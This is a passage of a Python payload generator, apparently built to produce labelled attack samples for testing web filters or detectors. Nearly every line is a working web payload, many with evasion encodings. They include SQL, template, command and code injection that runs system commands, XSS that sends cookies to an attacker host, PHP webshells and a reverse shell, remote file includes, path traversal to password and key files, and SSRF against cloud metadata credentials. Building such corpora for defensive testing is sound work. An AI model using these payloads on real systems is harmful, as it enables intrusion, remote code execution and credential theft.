        S("admin'/**/or/**/'1'like'1"),
        S("1 AnD 1=1 uNiOn SeLeCt 1,table_name FrOm information_schema.tables"),
        S("\uff07 OR \uff11\uff1d\uff11-- "),
        S(f"'; DECLARE @q VARCHAR(99); SET @q=0x{waitfor_hex}; EXEC(@q)--"),
        S(f"{n}'\r\n/*x*/UNION\r\n/*y*/SELECT {cols} FROM {tbl}#"),
        S("' OR/**/1/**/=/**/1#"),
        S(f"{n}'%20uNiOn%20sElEcT%201,2,3--%20", "raw"),
        S(f"{n}' || (SeLeCt CaSe WhEn 1=1 ThEn pg_sleep(5) ElSe pg_sleep(0) EnD)::text || '"),
    ]
    return ch(pool)


def g_xss(pl, ev):
    h = atk_host()
    if not ev:
        pool = [
            "<script>alert(document.domain)</script>",
            "<img src=x onerror=alert(1)>",
            '"><svg onload=alert(1)>',
            "javascript:alert(document.cookie)",
            '<iframe src="javascript:alert(1)"></iframe>',
            "<body onload=alert('xss')>",
            f"'><script src=https://{h}/x.js></script>",
            f"<a href=\"javascript:fetch('//{h}/?c='+document.cookie)\">click</a>",
            "<details open ontoggle=alert(1)>",
            '" autofocus onfocus=alert(1) x="',
            "<input onfocus=alert(document.domain) autofocus>",
            "';alert(String.fromCharCode(88,83,83));//",
            "</script><script>alert(1)</script>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            '<video><source onerror="alert(1)"></video>',
            "{{constructor.constructor('alert(1)')()}}",
            f"<img src=x onerror=\"new Image().src='https://{h}/c?'+document.cookie\">",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<textarea autofocus onfocus=alert(1)>",
            '"-alert(1)-"',
            f'<link rel=import href="https://{h}/x.html">',
            "<form action=javascript:alert(1)><input type=submit>",
            '<div style="background:url(javascript:alert(1))">',
            '<base href="https://%s/">' % h,
            '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
            '<embed src="javascript:alert(1)">',
            "<select autofocus onfocus=alert(1)>",
        ]
        return S(ch(pool))
    atob = b64("alert(document.domain)", pad=False)
    dataurl = b64("<script>alert(origin)</script>")
    pool = [
        "<ScRiPt>alert(1)</sCrIpT>",
        "<svg/onload=alert`1`>",
        "<img src=x oNeRrOr=&#97;&#108;&#101;&#114;&#116;(1)>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">tap</a>',
        "<img src=x onerror=\\u0061lert(1)>",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        "<svg><script>alert&#40;1&#41;</script>",
        f"<img src=x onerror=eval(atob('{atob}'))>",
        f'<object data="data:text/html;base64,{dataurl}"></object>',
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img/src/onerror=top['al'+'ert'](1)>",
        "<svg\nonload=alert(1)>",
        "<IMG SRC=`javascript:alert(1)`>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "<x onpointerover=alert(1)>hover me",
        "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>",
        "<img src=x onerror=window['\\x61lert'](1)>",
        "<iMg SrC=x OnErRoR=prompt(1)//",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">go</a>',
        "<svg%0Aonload=alert(1)>",
        "<img src=x onerror=setTimeout`alert\\x281\\x29`>",
        '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"></iframe>',
    ]
    p = ch(pool)
    return S(p, "raw" if "%0A" in p else "std")


def g_cmdi(pl, ev):
    host = ch(
        [
            "127.0.0.1",
            "8.8.8.8",
            "example.com",
            "10.0.0.1",
            "localhost",
            "192.168.0.10",
            "report.pdf",
            "backup.tar.gz",
            "eth0",
            "img_001.png",
        ]
    )
    if not ev:
        c = cmd()
        pool = [
            f"{host}; {c}",
            f"{host} | {c}",
            f"{host} && {c}",
            f"{host} || {c}",
            f"{host}`{c}`",
            f"{host}$({c})",
            f"$({c})",
            f"`{c}`",
            f"{host}\n{c}",
            f"{host} & {cmd(True)} &",
            f"{host} | {cmd(True)}",
            f"{host}'; {c}; echo '",
            f'{host}"; {c}; "',
            f"; {c} #",
            f"{host} >/dev/null; {c}",
            f'x --checkpoint=1 --checkpoint-action=exec="{c}"',
            f'{host} -oProxyCommand="{c}"',
            f"|{c}",
            f"{host}; {c} 2>&1",
        ]
        return S(ch(pool))
    c = cmd()
    word = ch(["whoami", "id", "uname", "hostname"])
    ansi = "".join("\\x%02x" % ord(x) for x in word)
    octal = "".join("\\%03o" % ord(x) for x in word)
    pool = [
        f"{host};cat${{IFS}}/etc/passwd",
        f"{host}|c'a't /e't'c/pa's's'wd",
        f"{host};w\\ho\\am\\i",
        f"{host};/???/c?t /???/p?ss??",
        f"{host};echo {b64(c)}|base64 -d|sh",
        f"{host}$(echo {b64(c, pad=False)}|base64 -d|bash)",
        f"{host}\n\t{c}",
        f"{host};$'{ansi}'",
        f"{host};{{cat,/etc/passwd}}",
        f"{host}&&who$@ami",
        f"{host};wh$()oami",
        f"{host};X=$'cat\\x20/etc/passwd'&&$X",
        f"{host};cat${{IFS}}${{PATH:0:1}}etc${{PATH:0:1}}passwd",
        f"{host}&&c^m^d /c wh^oami",
        f"{host}|powershell -nop -enc {b64('whoami'.encode('utf-16le'))}",
        f"{host};IFS=,;`cat<<<uname,-a`",
        f'{host};"i""d"',
        f"{host};tac$IFS/etc/passwd",
        f"{host}||$(printf '{octal}')",
        f"{host};$(rev<<<'imaohw')",
        f"{host}%0a{word}",
        f'{host};s"l"e"e"p${{IFS}}7',
        f"{host}|{{echo,{b64(c)}}}|{{base64,-d}}|{{bash,-i}}",
    ]
    p = ch(pool)
    return S(p, "raw" if "%0a" in p else "std")


def g_path_traversal(pl, ev):
    d = R.randint(3, 8)
    up = "../" * d
    user = ch(["ubuntu", "deploy", "www-data", "admin", "ec2-user"])
    ctx = {"keep_slash": True}
    if pl == "multipart" and R.random() < 0.7:
        ctx["mp"] = "filename"
    if not ev:
        pool = [
            up + "etc/passwd",
            up + "etc/shadow",
            "..\\" * d + "windows\\win.ini",
            "/etc/passwd",
            up + "proc/self/environ",
            up + "app/config/database.yml",
            "../../.env",
            up + "var/log/nginx/access.log",
            "../../WEB-INF/web.xml",
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
            "file:///etc/passwd",
            up + "root/.ssh/id_rsa",
            "/var/www/../../etc/passwd",
            "images/" + up + "etc/hosts",
            up + "proc/self/cmdline",
            up + "home/%s/.bash_history" % user,
            "..\\" * d + "boot.ini",
            up + "etc/kubernetes/admin.conf",
            up + "var/run/secrets/kubernetes.io/serviceaccount/token",
            "../" * 12 + "etc/group",
            up + "usr/local/tomcat/conf/tomcat-users.xml",
            "../config/secrets.json",
            "..\\..\\..\\inetpub\\wwwroot\\web.config",
            up + "home/%s/.ssh/authorized_keys" % user,
            "/proc/self/fd/%d" % R.randint(3, 12),
        ]
        return S(ch(pool), **ctx)
    pool = [
        S("....//" * d + "etc/passwd", **ctx),
        S("..././" * d + "etc/passwd", **ctx),
        S("..%c0%af" * d + "etc/passwd", "raw", **ctx),
        S("..%252f" * d + "etc%252fpasswd", "raw", **ctx),
        S("..%u2216" * d + "windows%u2216win.ini", "raw", **ctx),
        S(up + "etc/passwd\x00.png", **ctx),
        S("..\\/" * d + "etc/passwd", **ctx),
        S("/%2e%2e" * d + "/etc/passwd", "raw", **ctx),
        S("..;/" * d + "WEB-INF/web.xml", **ctx),
        S("php://filter/convert.base64-encode/resource=" + "../" * 2 + "config.php", **ctx),
        S("....\\\\" * d + "windows\\win.ini", **ctx),
        S("/etc/./passwd", **ctx),
        S("\uff0e\uff0e\uff0f" * d + "etc\uff0fpasswd", **ctx),
        S("%2e%2e%5c" * d + "windows%5cwin.ini", "raw", **ctx),
        S("..%2F" * d + "etc%2Fpasswd", "raw", **ctx),
        S("..%ef%bc%8f" * d + "etc/passwd", "raw", **ctx),
        S("%c0%ae%c0%ae/" * d + "etc/passwd", "raw", **ctx),
        S("file://localhost/etc/passwd", **ctx),
        S(".%2e/" * d + "etc/passwd", "raw", **ctx),
        S("/static/" + "..%2f" * d + "etc/passwd", "raw", **ctx),
        S("..\u2215" * d + "etc\u2215passwd", **ctx),
        S("/" + "..%5c" * d + "boot.ini", "raw", **ctx),
    ]
    return ch(pool)


def ip_to_int(ip):
    a = [int(x) for x in ip.split(".")]
    return (a[0] << 24) | (a[1] << 16) | (a[2] << 8) | a[3]


def g_ssrf(pl, ev):
    port = ch(["", ":8080", ":80", ":9000", ":6379", ":2375", ":8500"])
    if not ev:
        pool = [
            "http://127.0.0.1%s/admin" % port,
            "http://localhost/server-status",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
            "http://100.100.100.200/latest/meta-data/",
            "http://10.0.0.%d:9200/_cat/indices" % R.randint(2, 250),
            "http://192.168.1.1/",
            "file:///etc/passwd",
            "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
            "dict://127.0.0.1:11211/stats",
            "http://127.0.0.1:2375/containers/json",
            "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
            "http://169.254.170.2/v2/credentials",
            "http://[fd00:ec2::254]/latest/meta-data/",
            "http://0.0.0.0:22/",
            "http://localhost:8500/v1/agent/self",
            "http://172.17.0.1:10250/pods",
            "http://127.0.0.1:15672/api/users",
            "http://169.254.169.254/latest/user-data",
            "http://192.168.0.1/cgi-bin/config.exp",
            "ftp://10.1.2.3/backup.sql",
            "ldap://127.0.0.1:389/dc=corp",
        ]
        return S(ch(pool))
    lo = ch(["127.0.0.1", "169.254.169.254"])
    li = ip_to_int(lo)
    octs = lo.split(".")
    trusted = ch(["cdn.example.com", "images.example.com", "partner.example.org"])
    pool = [
        "http://[::1]%s/admin" % port,
        "http://[::]:80/",
        "http://[0:0:0:0:0:ffff:127.0.0.1]/",
        "http://[::ffff:7f00:1]/",
        "http://[::ffff:169.254.169.254]/latest/meta-data/",
        "http://%d/" % li,
        "http://%d/latest/meta-data/" % ip_to_int("169.254.169.254"),
        "http://" + ".".join("0%o" % int(o) for o in octs) + "/",
        "http://0177.0.0.1/",
        "http://" + ".".join("0x%x" % int(o) for o in octs) + "/",
        "http://0x%08x/" % li,
        "http://0xa9fea9fe/latest/meta-data/",
        "http://0x7f.1/",
        "http://127.1/",
        "http://0177.0.0x0.1/",
        "http://127.0.0.1.nip.io/",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://localtest.me/",
        "http://10-0-0-1.sslip.io/",
        "http://%s.127.0.0.1.nip.io/admin" % low(6),
        "http://%s@127.0.0.1/" % trusted,
        "http://127.0.0.1#@%s/" % trusted,
        "http://%s.169.254.169.254.nip.io/" % trusted,
        "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
        "http:/\\/127.0.0.1/",
        "HtTp://LoCaLhOsT:80/admin",
        "https://%s/redirect?url=http://169.254.169.254/latest/meta-data/" % trusted,
        "http://0/",
        "http://127.127.127.127/",
        "http://[0000::1]:80/",
        "http://lvh.me:8080/admin",
        "http://%s.%s.rbndr.us/" % ("7f000001", "c0a80001"),
    ]
    return S(ch(pool))


def g_ssti(pl, ev):
    c = ch(["id", "whoami", "cat /etc/passwd", "uname -a", "ls /"])
    if not ev:
        pool = [
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{config.items()}}",
            "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('%s').read() }}" % c,
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ cycler.__init__.__globals__.os.popen('%s').read() }}" % c,
            "{{ lipsum.__globals__['os'].popen('%s').read() }}" % c,
            '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("%s")}' % c,
            "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('%s'))$p.waitFor()" % c,
            "{system('%s')}" % c,
            "{php}echo `%s`;{/php}" % c,
            "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('%s')}}" % c,
            "{{['%s']|filter('system')}}" % c,
            "<%%= `%s` %%>" % c,
            "<%%= system('%s') %%>" % c,
            "${T(java.lang.Runtime).getRuntime().exec('%s')}" % c,
            "__${T(java.lang.Runtime).getRuntime().exec('%s')}__::.x" % c,
            "${{<%[%'\"}}%\\.",
            "{{request.application.__globals__.__builtins__.__import__('os').popen('%s').read()}}" % c,
            "{%% for x in ().__class__.__base__.__subclasses__() %%}{%% if 'warning' in x.__name__ %%}{{x()._module.__builtins__['__import__']('os').popen('%s').read()}}{%% endif %%}{%% endfor %%}"
            % c,
            "${self.module.cache.util.os.system('%s')}" % c,
            "<%% import os; x=os.popen('%s').read() %%>${x}" % c,
            "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('%s')}()}"
            % c,
            "{%% import os %%}{{ os.popen('%s').read() }}" % c,
            "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('%s')\")()}}" % c,
            '@(System.Diagnostics.Process.Start("cmd.exe","/c %s"))' % c,
        ]
        return S(ch(pool))
    hx = lambda s: "".join("\\x%02x" % ord(x) for x in s)
    pool = [
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('%s')|attr('read')()}}"
        % c,
        "{{''['%s']}}" % hx("__class__"),
        "{{()|attr(request.args.c)|attr(request.args.m)}}",
        '{{lipsum|attr("__globals__")|attr("__getitem__")("os")|attr("popen")("%s")|attr("read")()}}' % c,
        "{%%print(cycler.__init__.__globals__.os.popen('%s').read())%%}" % c,
        "{{ self['__in'+'it__']['__glo'+'bals__']['__buil'+'tins__']['__imp'+'ort__']('o'+'s').popen('%s').read() }}"
        % c,
        '${"freemarker.template.utility.Execute"?new()("%s")}' % c,
        "*{T(java.lang.Runtime).getRuntime().exec('%s')}" % c,
        "${T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100))}",
        "{{ 7 * '7' }}",
        "{{config.__class__.__init__.__globals__['os'].popen('echo %s|base64 -d|sh').read()}}" % b64(c),
        "{{\n''.__class__\n.__mro__[1]\n.__subclasses__()\n}}",
        "{{ request['application']['\\x5f\\x5fglobals\\x5f\\x5f'] }}",
        "{{g.pop.__globals__.__builtins__.__import__('os').popen('%s').read()}}" % c,
        "{{\t7\t*\t7\t}}",
        "{{ get_flashed_messages.__globals__['current_app'].config }}",
        "{%%set a=dict(po=x,pen=x)|join%%}{{lipsum.__globals__.os[a]('%s').read()}}" % c,
        "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('%s')}" % c,
        "{{url_for.__globals__.os.popen('%s').read()}}" % c,
        '{{ "%s"|safe }}{{ lipsum.__globals__.os.popen(request.headers.x).read() }}' % low(4),
    ]
    return S(ch(pool))


def g_code_injection(pl, ev):
    c = ch(["id", "whoami", "cat /etc/passwd", "uname -a"])
    if not ev:
        pool = [
            # Python
            "__import__('os').system('%s')" % c,
            "eval(compile('import os;os.system(\"%s\")','x','exec'))" % c,
            "exec(\"import subprocess;subprocess.call(['%s'])\")" % c.split()[0],
            "1+1;import os;os.popen('%s').read()" % c,
            "open('/etc/passwd').read()",
            "__import__('subprocess').check_output(['cat','/etc/passwd'])",
            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('%s',shell=True)" % c,
            # Node
            "require('child_process').execSync('%s').toString()" % c,
            "process.mainModule.require('child_process').exec('%s')" % c,
            "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
            "res.end(require('fs').readdirSync('.').toString())",
            "setTimeout(function(){require('child_process').exec('%s')},0)" % c,
            "(function(){return process.env})()",
            "global.process.kill(process.pid)",
            # Java / EL / OGNL / Groovy
            'Runtime.getRuntime().exec("%s")' % c,
            'new ProcessBuilder("bash","-c","%s").start()' % c,
            "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('%s')}" % c,
            "%%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('%s'))}" % c,
            "T(java.lang.System).getenv()",
            "'%s'.execute().text" % c,
            "new javax.script.ScriptEngineManager().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"%s\")')"
            % c,
            # Ruby
            "`%s`" % c,
            "system('%s')" % c,
            "Kernel.exec('%s')" % c,
            "%%x(%s)" % c,
            "IO.popen('%s').read" % c,
            "eval('File.read(\"/etc/passwd\")')",
            "send(:system, '%s')" % c,
            "Object.const_get('Kernel').send(:exec,'%s')" % c,
            # PHP (generic code eval sink)
            "phpinfo();",
            "system('%s');" % c,
            "${@print(md5(31337))}",
        ]
        return S(ch(pool))
    py_b64 = b64("import os;os.system('%s')" % c)
    node_b64 = b64("require('child_process').execSync('%s')" % c)
    hexpy = "__import__('os').popen('%s').read()" % c
    charcodes = ",".join(str(ord(x)) for x in "require('child_process').execSync('%s')" % c)
    pool = [
        "getattr(__import__('o'+'s'),'sys'+'tem')('%s')" % c,
        "exec(__import__('base64').b64decode('%s'))" % py_b64,
        "eval(bytes.fromhex('%s').decode())" % hexpy.encode().hex(),
        "__builtins__.__dict__['__imp'+'ort__']('os').system('%s')" % c,
        "exec(%s)" % "+".join("chr(%d)" % ord(x) for x in "import os;os.system('id')"),
        'eval(\'\\x5f\\x5fimport\\x5f\\x5f("os").popen("%s").read()\')' % c,
        "__\U0001d5f6\U0001d5fa\U0001d5fd\U0001d5fc\U0001d5ff\U0001d601__('os').system('%s')" % c,
        "require('child_'+'process')['ex'+'ecSync']('%s')" % c,
        "eval(Buffer.from('%s','base64').toString())"
        % b64(("require('child_process').execSync('%s')" % c).encode(), pad=False),
        "eval(String.fromCharCode(%s))" % charcodes,
        "global['proc'+'ess']['mainMod'+'ule']['req'+'uire']('child_'+'process')['execSync']('%s')" % c,
        "\\u0072equire('child_process').execSync('%s')" % c,
        'Class.forName("java.la"+"ng.Runtime").getMethod("getRu"+"ntime").invoke(null).exec("%s")' % c,
        "T(java.lang.Runtime).getRuntime().exec(new String(T(java.util.Base64).getDecoder().decode('%s')))" % b64(c),
        "Kernel.send(('sys'+'tem').to_sym,'%s')" % c,
        "`#{'i'+'d'}`",
        "eval(Base64.decode64('%s'))" % b64("system('%s')" % c),
        "eval(['%s'].pack('H*'))" % ("system('%s')" % c).encode().hex(),
        "eval(atob('%s'))" % node_b64,
        "(0,eval)('req'+'uire(\"child_process\").exec(\"%s\")')" % c,
        "__import__('pickle').loads(__import__('base64').b64decode('%s'))" % b64(b"cos\nsystem\n(S'id'\ntR."),
        "[].__class__.__base__.__subclasses__()[-1].__init__.__globals__['sys'].modules['os'].system('%s')" % c,
    ]
    return S(ch(pool))


def php_ser_str(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def g_php_injection(pl, ev):
    c = ch(["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la"])
    ctx = {}
    if pl == "multipart" and R.random() < 0.6:
        ctx = {
            "mp": "content",
            "mp_filename": ch(["avatar.png", "invoice.pdf", "photo.jpg.php", "x.phtml", "cv.docx"]),
            "mp_ctype": ch(["image/png", "application/octet-stream", "application/pdf"]),
        }
    if not ev:
        cls = ch(["UserPrefs", "CacheItem", "Logger"])
        ser = 'O:%d:"%s":2:{%s%s%s%s}' % (
            len(cls),
            cls,
            php_ser_str("file"),
            php_ser_str("/var/www/html/s.php"),
            php_ser_str("data"),
            php_ser_str("<?php system($_GET[0]); ?>"),
        )
        pool = [
            "<?php system($_GET['c']); ?>",
            "<?php echo shell_exec('%s'); ?>" % c,
            "<?= `%s` ?>" % c,
            "<?php eval($_POST['x']); ?>",
            "system('%s');" % c,
            "phpinfo()",
            "';passthru('%s');$a='" % c,
            "${system('%s')}" % c,
            ser,
            "assert('system(\"%s\")')" % c,
            "preg_replace('/.*/e','system(\"%s\")','x')" % c,
            "call_user_func('system','%s')" % c,
            "array_map('system',array('%s'))" % c,
            "include('php://input');",
            "file_put_contents('s.php','<?php system($_GET[0]);?>')",
            "phar://uploads/avatar.jpg/test.txt",
            "php://filter/read=convert.base64-encode/resource=index.php",
            "expect://%s" % c.split()[0],
            "<?php echo file_get_contents('/etc/passwd'); ?>",
            "<?php $s=fsockopen('%s',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>" % atk_ip(),
            "<?php @include($_REQUEST['f']); ?>",
            "create_function('','system(\"%s\");')" % c,
        ]
        return S(ch(pool), **ctx)
    inner = "system('%s');" % c
    chrs = ".".join("chr(%d)" % ord(x) for x in "system")
    pool = [
        "<?php $f='sys'.'tem';$f('%s'); ?>" % c,
        "<?php ('sy'.'stem')('%s');?>" % c,
        "<?php @eval(base64_decode('%s')); ?>" % b64(inner),
        "<?php eval(base64_decode('%s')); ?>" % b64(inner, pad=False),
        "<?php $x=%s;$x('%s'); ?>" % (chrs, c),
        "<?php echo str_rot13('flfgrz')('%s');?>" % c,
        "<?PhP SyStEm('%s'); ?>" % c,
        "<?php ${'_GET'}[0](${'_GET'}[1]); ?>",
        "<script language=\"php\">system('%s');</script>" % c,
        "<?php\n\tsystem\n\t('%s');" % c,
        "data://text/plain;base64,%s" % b64("<?php system('%s'); ?>" % c),
        "<?=`$_GET[0]`?>",
        "<?php $x=strrev('metsys');$x('%s');?>" % c,
        "<?php $a='a'.'s'.'s'.'e'.'r'.'t';$a($_POST['z']); ?>",
        "<?php /*x*/ system /*y*/ ('%s'); ?>" % c,
        '<?php $_="{";$_=($_^"<").($_^">;").($_^"/");${$_}[\'_\'](${$_}[\'__\']); ?>',
        "GIF89a;<?php system($_GET['c']); ?>",
        "<?php echo `{$_GET['q']}`; ?>",
        "<?php call_user_func_array(hex2bin('%s'), array('%s')); ?>" % (b"system".hex(), c),
        "php://filter/convert.base64-decode/resource=data:,%s" % b64("<?php phpinfo();?>", pad=False),
    ]
    return S(ch(pool), **ctx)


def g_rfi(pl, ev):
    h = atk_host()
    f = ch(["shell.txt", "x.txt", "inc/backdoor.php.txt", "payload.txt", "r.txt", "cmd.gif"])
    if not ev:
        pool = [
            "http://%s/%s" % (h, f),
            "http://%s/%s?" % (h, f),
            "https://%s/%s" % (h, f),
            "ftp://%s/pub/inc.php" % atk_ip(),
            "\\\\%s\\share\\evil.php" % atk_ip(),
            "http://%s/%s\x00" % (h, f),
            "//%s/%s" % (h, f),
            "data://text/plain;base64,%s" % b64("<?php system('id'); ?>"),
            "php://input",
            "expect://id",
            "http://%s/%s?cmd=id&" % (h, f),
            "https://raw.githubusercontent.com/%s/%s/main/x.php" % (low(8), low(6)),
            "https://pastebin.com/raw/%s" % rstr(8),
            "http://%s:8000/%s" % (atk_ip(), f),
            "zip://uploads/avatar.jpg#shell.php",
            "ftp://anonymous:anonymous@%s/%s" % (h, f),
        ]
        return S(ch(pool))
    hexip = "0x%08x" % ip_to_int(atk_ip())
    pool = [
        S("hTtP://%s/%s?" % (h, f)),
        S("http://%s/%s" % (hexip, f)),
        S("data:text/plain;base64,%s" % b64("<?php phpinfo();?>")),
        S("data://text/plain;base64,%s" % b64("<?php system($_GET['c']);?>", pad=False)),
        S("php://filter/resource=http://%s/%s" % (h, f)),
        S("\\\\%s@SSL\\DavWWWRoot\\%s" % (h, f)),
        S("http://%s/%s#" % (h, f)),
        S("compress.zlib://http://%s/%s" % (h, f)),
        S("HTTPS://%s/%s%%00" % (h.upper(), f), "raw"),
        S("http:%%2f%%2f%s%%2f%s" % (h, f), "raw"),
        S("expect://ls${IFS}-la"),
        S("http://%s/%s" % (".".join("0%o" % int(o) for o in atk_ip().split(".")), f)),
        S("http://%d/%s" % (ip_to_int(atk_ip()), f)),
        S("DaTa:text/plain,<?php system('id');?>"),
        S("http://%s/%s?.php" % (h, f)),
        S("http://%s/%s%%23" % (h, f), "raw"),
        S("http://[::ffff:%s]/%s" % (atk_ip(), f)),
        S("PHP://input"),
    ]
    return ch(pool)


def g_crlf(pl, ev):
    h = atk_host()
    tok = hexs(16)
    if not ev:
        pool = [
            "\r\nSet-Cookie: sessionid=%s" % tok,
            "/home\r\nLocation: https://%s/" % h,
            "en\r\nX-Injected: 1",
            "\r\n\r\n<script>alert(1)</script>",
            "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>owned</html>",
            "https://%s/\r\nRefresh: 0; url=https://%s/" % (ch(SITES), h),
            "foo\r\nAccess-Control-Allow-Origin: *",
            "/account\r\nSet-Cookie: admin=true; Path=/",
            "de\r\nX-XSS-Protection: 0",
            'user\r\n127.0.0.1 - admin [01/Jan/2024:00:00:00 +0000] "GET /admin HTTP/1.1" 200',
            "/\r\nContent-Security-Policy: default-src *",
            "ok\r\nLink: <https://%s/x.css>; rel=stylesheet" % h,
            "/%s\r\nSet-Cookie: csrftoken=%s; Domain=.example.com" % (low(5), tok),
        ]
        return S(ch(pool))
    pool = [
        S("\nSet-Cookie: admin=true"),
        S("\u560a\u560dSet-Cookie: s=%s" % tok),
        S("\rSet-Cookie: s=%s" % tok),
        S("%%0D%%0aSet-Cookie: s=%s" % tok, "raw"),
        S("%%u000d%%u000aSet-Cookie: s=%s" % tok, "raw"),
        S("/x\r\n\tSet-Cookie: s=%s" % tok),
        S("%%250d%%250aLocation: https://%s/" % h, "raw"),
        S("%%E5%%98%%8A%%E5%%98%%8DLocation:%%20https://%s/" % h, "raw"),
        S("en%%0d%%0a%%0d%%0a<svg onload=alert(1)>", "raw"),
        S("\u010d\u010aSet-Cookie: s=%s" % tok),
        S("%%0aLocation:%%09https://%s/" % h, "raw"),
        S("/%%0d%%0aX-Forwarded-Host:%%20%s" % h, "raw"),
        S("ok\r\n Set-Cookie : s=%s" % tok),
        S("%%23%%0dSet-Cookie:s=%s" % tok, "raw"),
    ]
    return ch(pool)


def g_ldapi(pl, ev):
    u = ch(["admin", "jdoe", "svc_backup", "alice", "root"])
    if not ev:
        pool = [
            "*)(uid=*))(|(uid=*",
            "%s)(&)" % u,
            "%s)(|(password=*))" % u,
            "*)(objectClass=*",
            "x*)(|(cn=*)",
            "%s))(|(objectClass=*)" % u,
            "*)(userPassword=a*",
            "%s*)((|userPassword=*)" % u,
            "%s)(|(mail=*@*))" % u,
            "*))\x00",
            "*)(|(memberOf=cn=admins,ou=groups,dc=corp,dc=example)",
            "%s)(!(cn=nobody)" % u,
            "*)(&(objectClass=user)(description=*pass*)",
            "%s)(|(uid=*" % u,
            "*()|&'",
            "admin*",
            "*)(mail=*))%%00".replace("%%00", "\x00"),
            "%s))(&(uid=*)" % u,
            "*)(telephoneNumber=*",
            "%s)(userAccountControl:1.2.840.113556.1.4.803:=2)" % u,
        ]
        return S(ch(pool))
    pool = [
        S("\\2a)(uid=\\2a))(|(uid=\\2a"),
        S("*)(UiD=*))(|(UID=*"),
        S("%s)(%%26)" % u, "raw"),
        S("%s)(|(objectClass=*)(objectClass=*" % u),
        S("%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a", "raw"),
        S("%s)\n(|(cn=*)" % u),
        S("*)(oBjEcTcLaSs=*"),
        S("%s)(|(userPassword=\\2a))" % u),
        S("\uff0a)(uid=\uff0a))(|(uid=\uff0a"),
        S("*)(%%26(objectClass=*)(uid=%s)" % u, "raw"),
        S("%s)(|(sn=*)(givenName=*)(cn=*)" % u),
        S("*)(cn=*)%00", "raw"),
    ]
    return ch(pool)


def g_nosqli(pl, ev):
    user = ch(["admin", "root", "alice@example.com", "jdoe", "support"])
    field = ch(["password", "username", "token", "email", "pin"])
    ops = [
        ("$ne", None),
        ("$gt", ""),
        ("$regex", "^a"),
        ("$regex", ".*"),
        ("$exists", True),
        ("$nin", []),
        ("$in", ["admin", "root"]),
        ("$where", "sleep(5000)"),
        ("$where", "this.password.length > 0"),
        ("$gte", ""),
        ("$not", {"$eq": "x"}),
    ]
    if pl == "query_key":
        op, v = ch(ops)
        if isinstance(v, list):
            k, qv = "%s[%s][]" % (field, op), (v[0] if v else "x")
        elif isinstance(v, dict):
            k, qv = "%s[%s][$eq]" % (field, op), "x"
        elif v is None:
            k, qv = "%s[%s]" % (field, op), ch(["1", "", "x", "null"])
        else:
            k, qv = "%s[%s]" % (field, op), (json.dumps(v) if not isinstance(v, str) else (v or "a"))
        if ev and R.random() < 0.6:
            k = k.replace("[", "%5B").replace("]", "%5D").replace("$", ch(["%24", "%24", "$"]))
            return S(k, "raw", val=qv)
        return S(k, val=qv)
    if pl == "json_key":
        op, v = ch(ops)
        pw = field
        return S(
            op,
            doc=lambda K, pw=pw, v=v: (
                {"username": user, pw: {K: v}} if pw != "username" else {"username": {K: v}, "password": "x"}
            ),
            val=v,
        )
    if pl == "json" and R.random() < 0.6:
        op, v = ch(
            ops
            + [
                ("$expr", {"$eq": [1, 1]}),
                ("$function", {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}),
            ]
        )
        obj = {op: v}
        return S(
            json.dumps(obj),
            obj=obj,
            doc=lambda o, f=field: {"username": user, f: o} if f != "username" else {"username": o, "password": "x"},
        )
    js = [
        "' || '1'=='1",
        "'; return true; var x='",
        "admin' && this.password.match(/.*/)//",
        "1; sleep(5000)",
        "'; while(true){}; '",
        "this.constructor.constructor('return process')()",
        "' || 1==1//",
        "%s'; return db.users.find(); var y='" % user,
        "0;return true",
        '{"$where": "sleep(5000)"}',
        '{"$gt": ""}',
